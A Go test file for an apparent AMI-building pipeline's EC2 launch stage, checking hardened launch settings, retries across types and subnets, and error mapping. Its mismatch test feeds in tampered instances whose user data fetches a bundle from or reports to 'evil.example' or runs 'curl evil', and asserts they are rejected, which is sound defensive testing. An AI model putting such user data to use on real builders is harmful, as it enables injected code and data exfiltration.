package stage

import (
	"cmp"
	"encoding/base64"
	"maps"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ami-factory/ami-factory/pkg/ami"
	"github.com/ami-factory/ami-factory/pkg/contract"
	"github.com/ami-factory/ami-factory/pkg/failure"
)

func launchStage(t *testing.T) (Launch, *fakeS3, *fakeEC2) {
	s, e := newS3(t), newEC2(home)
	return Launch{Settings: Settings{Region: home, InstanceProfile: "profile", SecurityGroupIDs: []string{"sg-1"}}, Store: s.store(), EC2: e}, s, e
}

func TestBuilderIsLaunchedAsThePlanSays(t *testing.T) {
	l, s, e := launchStage(t)
	out, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"})
	require.NoError(t, err)
	assert.Equal(t, LaunchOutput{InstanceID: "i-1", InstanceType: "t3.medium"}, out)

	require.Len(t, e.ran, 1)
	in := e.ran[0]
	assert.Equal(t, "ami-base", *in.ImageId)
	assert.Equal(t, types.HttpTokensStateRequired, in.MetadataOptions.HttpTokens)
	assert.EqualValues(t, 1, *in.MetadataOptions.HttpPutResponseHopLimit)
	assert.Equal(t, types.InstanceMetadataProtocolStateEnabled, in.MetadataOptions.HttpProtocolIpv6, "a builder in a subnet with IPv6 reaches its metadata")
	assert.Nil(t, in.KeyName)
	assert.False(t, *in.NetworkInterfaces[0].AssociatePublicIpAddress)
	assert.Equal(t, []string{"sg-1"}, in.NetworkInterfaces[0].Groups)
	assert.Nil(t, in.NetworkInterfaces[0].SubnetId, "the default VPC's")
	assert.Equal(t, "profile", *in.IamInstanceProfile.Name)
	assert.Equal(t, types.ShutdownBehaviorStop, in.InstanceInitiatedShutdownBehavior)

	root := in.BlockDeviceMappings[0]
	assert.Equal(t, "/dev/xvda", *root.DeviceName)
	assert.Equal(t, types.VolumeTypeGp3, root.Ebs.VolumeType)
	assert.True(t, *root.Ebs.Encrypted)
	assert.True(t, *root.Ebs.DeleteOnTermination)
	assert.Equal(t, "alias/k", *root.Ebs.KmsKeyId)
	assert.EqualValues(t, 8, *root.Ebs.VolumeSize)

	data, err := base64.StdEncoding.DecodeString(*in.UserData)
	require.NoError(t, err)
	assert.Equal(t, "#!/bin/sh\ncurl '' 'https://get.example/bundles/b00b.tar.gz?sig=ab&x=1'\n"+
		"put 'https://put.example/executions/run/provisioned.json?once=x' 'https://put.example/executions/run/steps.json'\n", string(data),
		"it may upload one verdict, and its steps again and again")

	kinds := map[types.ResourceType]bool{}
	for _, spec := range in.TagSpecifications {
		kinds[spec.ResourceType] = true
		for key, want := range map[string]string{
			contract.TagRecipe: "debian", contract.TagExecution: "run", contract.TagStage: "LaunchBuilder",
			contract.TagFingerprint: "f00d", contract.TagExpires: "2026-03-03T12:00:00Z",
		} {
			assert.Equal(t, want, ami.TagValue(spec.Tags, key))
		}
	}
	assert.Equal(t, map[types.ResourceType]bool{types.ResourceTypeInstance: true, types.ResourceTypeVolume: true, types.ResourceTypeNetworkInterface: true}, kinds)
}

func TestVerifierIsLaunchedFromTheImageAlone(t *testing.T) {
	l, s, e := launchStage(t)
	e.images = []types.Image{image("ami-new", "run", false)}
	_, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchVerifier", testPlan()), Role: "verifier", ImageID: "ami-new"})
	require.NoError(t, err)
	in := e.ran[0]
	assert.Equal(t, "ami-new", *in.ImageId)
	assert.Nil(t, in.UserData)
	assert.Equal(t, types.ShutdownBehaviorTerminate, in.InstanceInitiatedShutdownBehavior)
	assert.Nil(t, in.BlockDeviceMappings[0].Ebs.KmsKeyId, "the snapshot's own key is what is verified")
}

func TestLaunchTriesTypesThenSubnets(t *testing.T) {
	l, s, e := launchStage(t)
	l.Settings.SubnetIDs = []string{"subnet-1", "subnet-2"}
	e.faults["RunInstances"] = []error{awsErr("InsufficientInstanceCapacity"), awsErr("Unsupported"), awsErr("InsufficientInstanceCapacity"), nil}
	out, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"})
	require.NoError(t, err)
	assert.Equal(t, "m6i.large", out.InstanceType)
	var tried, tokens []string
	for _, in := range e.ran {
		tried = append(tried, string(in.InstanceType)+" "+*in.NetworkInterfaces[0].SubnetId)
		tokens = append(tokens, *in.ClientToken)
		assert.LessOrEqual(t, len(*in.ClientToken), 64)
	}
	assert.Equal(t, []string{"t3.medium subnet-1", "m6i.large subnet-1", "t3.medium subnet-2", "m6i.large subnet-2"}, tried)
	assert.Len(t, ami.SortedIDs(tokens), 4, "each place has its own client token")
}

func TestRecipesSubnetsComeFirst(t *testing.T) {
	l, s, e := launchStage(t)
	l.Settings.SubnetIDs = []string{"subnet-1"}
	p := testPlan()
	p.Recipe.Builder.SubnetIDs = []string{"subnet-9"}
	_, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", p), Role: "builder"})
	require.NoError(t, err)
	assert.Equal(t, "subnet-9", *e.ran[0].NetworkInterfaces[0].SubnetId)
}

// ofFirstAttempt is what the launch stage's first attempt made.
func ofFirstAttempt(stage, image string) types.Instance {
	return types.Instance{
		InstanceId: aws.String("i-first"), InstanceType: "t3.medium", State: &types.InstanceState{Name: types.InstanceStateNamePending},
		Tags:        []types.Tag{{Key: aws.String(contract.TagExecution), Value: aws.String("run")}, {Key: aws.String(contract.TagStage), Value: aws.String(stage)}},
		ClientToken: aws.String(ami.LaunchToken(launchOwner(Execution{ID: "arn:run", Name: "run", StartTime: start}, stage), "t3.medium", "")),
		ImageId:     aws.String(image), SubnetId: aws.String("subnet-default"), SecurityGroups: []types.GroupIdentifier{{GroupId: aws.String("sg-1")}},
		IamInstanceProfile: &types.IamInstanceProfile{Arn: aws.String("arn:aws:iam::111122223333:instance-profile/profile")},
		MetadataOptions: &types.InstanceMetadataOptionsResponse{
			HttpEndpoint: types.InstanceMetadataEndpointStateEnabled, HttpTokens: types.HttpTokensStateRequired, HttpPutResponseHopLimit: aws.Int32(1),
		},
	}
}

// sentData is the user data of the tests' plan, with addresses that are signed in
// some way.
func sentData(signature string) string { return data(sentText(signature)) }

func sentText(signature string) string {
	return "#!/bin/sh\ncurl '' 'https://get.example/bundles/b00b.tar.gz?" + signature + "'\n" +
		"put 'https://put.example/executions/run/provisioned.json?" + signature + "' 'https://put.example/executions/run/steps.json?" + signature + "'\n"
}

func data(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

func TestAnInstanceThatThisExecutionDidNotLaunchIsNotAdopted(t *testing.T) {
	type change struct {
		instance func(*types.Instance)
		data     string // base64, in place of what was sent
		tells    string
	}
	changes := map[string]change{
		"of another image": {instance: func(i *types.Instance) { i.ImageId = aws.String("ami-evil") }, tells: `its image is "ami-evil"`},
		"with another profile": {instance: func(i *types.Instance) {
			i.IamInstanceProfile.Arn = aws.String("arn:aws:iam::111122223333:instance-profile/admin")
		}, tells: "instance-profile/admin"},
		"with a profile of a like name": {instance: func(i *types.Instance) {
			i.IamInstanceProfile.Arn = aws.String("arn:aws:iam::111122223333:instance-profile/xprofile")
		}, tells: "instance-profile/xprofile"},
		"without a profile":            {instance: func(i *types.Instance) { i.IamInstanceProfile = nil }, tells: `its instance profile is ""`},
		"with no client token":         {instance: func(i *types.Instance) { i.ClientToken = nil }, tells: `its client token is ""`},
		"with somebody's client token": {instance: func(i *types.Instance) { i.ClientToken = aws.String("theirs") }, tells: `its client token is "theirs"`},
		"of an earlier execution of the same name": {instance: func(i *types.Instance) {
			e := Execution{ID: "arn:run", Name: "run", StartTime: start.AddDate(0, -4, 0)}
			i.ClientToken = aws.String(ami.LaunchToken(launchOwner(e, ami.TagValue(i.Tags, contract.TagStage)), "t3.medium", ""))
		}, tells: "which this execution did not send"},
		"of another type than its token": {instance: func(i *types.Instance) { i.InstanceType = "m6i.large" }, tells: `its type is "m6i.large"`},
		"with a key pair":                {instance: func(i *types.Instance) { i.KeyName = aws.String("mine") }, tells: `its key pair is "mine"`},
		"with a public address":          {instance: func(i *types.Instance) { i.PublicIpAddress = aws.String("203.0.113.1") }, tells: "203.0.113.1"},
		"in another security group":      {instance: func(i *types.Instance) { i.SecurityGroups[0].GroupId = aws.String("sg-open") }, tells: "sg-open"},
		"with IMDSv1":                    {instance: func(i *types.Instance) { i.MetadataOptions.HttpTokens = types.HttpTokensStateOptional }, tells: `its metadata service is "optional"`},
		"with a hop more":                {instance: func(i *types.Instance) { i.MetadataOptions.HttpPutResponseHopLimit = aws.Int32(2) }, tells: `its metadata hop limit is "2"`},
	}
	for role, its := range map[string]struct {
		in      LaunchInput
		stage   string
		data    string
		changes map[string]change
	}{
		"builder": {in: LaunchInput{Role: "builder"}, stage: "LaunchBuilder", data: sentData("sig=x"), changes: map[string]change{
			"with other user data":            {data: data("#!/bin/sh\ncurl evil\n"), tells: "its user data is not what"},
			"with a bundle of elsewhere":      {data: data(strings.Replace(sentText("sig=x"), "get.example", "evil.example", 1)), tells: "its user data is not what"},
			"that reports elsewhere":          {data: data(strings.Replace(sentText("sig=x"), "put.example", "evil.example", 1)), tells: "its user data is not what"},
			"that reports for another's name": {data: data(strings.Replace(sentText("sig=x"), "executions/run/steps", "executions/other/steps", 1)), tells: "its user data is not what"},
			"with more after the user data":   {data: data(sentText("sig=x") + "evil\n"), tells: "its user data is not what"},
		}},
		"verifier": {in: LaunchInput{Role: "verifier", ImageID: "ami-new"}, stage: "LaunchVerifier", changes: map[string]change{
			"with user data": {data: base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\n")), tells: "its user data is not what"},
		}},
	} {
		maps.Copy(its.changes, changes)
		for name, c := range its.changes {
			t.Run(role+" "+name, func(t *testing.T) {
				l, s, e := launchStage(t)
				e.images = []types.Image{image("ami-new", "run", false)}
				i := ofFirstAttempt(its.stage, map[string]string{"builder": "ami-base", "verifier": "ami-new"}[role])
				if c.instance != nil {
					c.instance(&i)
				}
				e.instances, e.userData = []types.Instance{i}, map[string]string{}
				if data := cmp.Or(c.data, its.data); data != "" {
					e.userData["i-first"] = data
				}
				in := its.in
				in.Job = job(t, s, its.stage, testPlan())
				_, err := l.Run(t.Context(), in)
				requireCode(t, failure.InstanceMismatch, err)
				assert.Contains(t, err.Error(), "instance i-first")
				assert.Contains(t, err.Error(), c.tells)
				assert.Empty(t, e.ran)
				assert.Empty(t, e.terminated)
			})
		}
	}
}

func TestSecondAttemptFindsTheFirstOnesInstance(t *testing.T) {
	running := ofFirstAttempt("LaunchBuilder", "ami-base")
	t.Run("by its tags", func(t *testing.T) {
		l, s, e := launchStage(t)
		e.instances, e.userData = []types.Instance{running}, map[string]string{"i-first": sentData("sig=of-the-first-attempt")}
		out, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"})
		require.NoError(t, err)
		assert.Equal(t, "i-first", out.InstanceID)
		assert.Empty(t, e.ran)
	})
	t.Run("by its client token, when its tags were not visible yet", func(t *testing.T) {
		l, s, e := launchStage(t)
		hidden := running
		hidden.Tags = nil
		e.instances, e.userData = []types.Instance{hidden}, map[string]string{"i-first": sentData("sig=of-the-first-attempt")}
		e.faults["RunInstances"] = []error{awsErr("IdempotentParameterMismatch")}
		out, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"})
		require.NoError(t, err)
		assert.Equal(t, "i-first", out.InstanceID)
	})
	t.Run("or is told to try again", func(t *testing.T) {
		l, s, e := launchStage(t)
		e.faults["RunInstances"] = []error{awsErr("IdempotentParameterMismatch")}
		_, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"})
		requireCode(t, failure.ServiceUnavailable, err)
	})
}

func TestLaunchFails(t *testing.T) {
	for name, c := range map[string]struct {
		role   string
		image  string
		op     string
		err    error
		want   failure.Code
		tells  string
		change func(*Launch, *fakeS3)
	}{
		"no type has capacity anywhere":         {role: "builder", op: "RunInstances", err: awsErr("InsufficientInstanceCapacity"), want: failure.CapacityUnavailable, tells: "t3.medium (InsufficientInstanceCapacity), m6i.large (InsufficientInstanceCapacity)"},
		"the quota is used up":                  {role: "builder", op: "RunInstances", err: awsErr("VcpuLimitExceeded"), want: failure.QuotaExceeded},
		"the call is throttled":                 {role: "builder", op: "RunInstances", err: awsErr("RequestLimitExceeded"), want: failure.Throttled},
		"the role may not launch":               {role: "builder", op: "RunInstances", err: awsErr("UnauthorizedOperation"), want: failure.AccessDenied, tells: "permission"},
		"EC2 refuses the request":               {role: "builder", op: "RunInstances", err: awsErr("InvalidParameterValue"), want: failure.InstanceFailed},
		"the instances cannot be listed":        {role: "builder", op: "DescribeInstances", err: awsErr("InternalError"), want: failure.ServiceUnavailable},
		"a verifier needs an image":             {role: "verifier", want: failure.InvalidInput, tells: "imageId"},
		"the verifier's image is unknown still": {role: "verifier", image: "ami-x", want: failure.ServiceUnavailable},
		"a role must be one of the two":         {role: "janitor", want: failure.InvalidInput, tells: "janitor"},
		"the bundle cannot be presigned": {role: "builder", want: failure.Internal, change: func(_ *Launch, s *fakeS3) {
			s.faults["Presign"] = []error{awsErr("X")}
		}},
		"the plan was altered": {role: "builder", want: failure.InvalidInput, tells: "altered", change: func(_ *Launch, s *fakeS3) {
			s.put("plans/p.json", []byte("{}"))
		}},
	} {
		t.Run(name, func(t *testing.T) {
			l, s, e := launchStage(t)
			if c.op != "" {
				e.faults[c.op] = []error{c.err}
			}
			in := LaunchInput{Job: job(t, s, "Launch", testPlan()), Role: c.role, ImageID: c.image}
			if c.change != nil {
				c.change(&l, s)
			}
			_, err := l.Run(t.Context(), in)
			requireCode(t, c.want, err)
			assert.Contains(t, err.Error(), c.tells)
		})
	}
}

func TestUserDataThatDoesNotFit(t *testing.T) {
	l, s, _ := launchStage(t)
	p := testPlan()
	p.UserData = "no placeholder"
	_, err := l.Run(t.Context(), LaunchInput{Job: job(t, s, "LaunchBuilder", p), Role: "builder"})
	requireCode(t, failure.RecipeInvalid, err)
}

func TestInputIsChecked(t *testing.T) {
	l, s, _ := launchStage(t)
	in := LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"}
	in.Execution.Name, in.Plan.Key = "", ""
	_, err := l.Run(t.Context(), in)
	requireCode(t, failure.InvalidInput, err)
	assert.EqualError(t, err, "the stage's input lacks execution.name, plan.key")

	in = LaunchInput{Job: job(t, s, "LaunchBuilder", testPlan()), Role: "builder"}
	in.Plan.Bucket = strings.ToUpper(bucket)
	_, err = l.Run(t.Context(), in)
	requireCode(t, failure.InvalidInput, err)
}
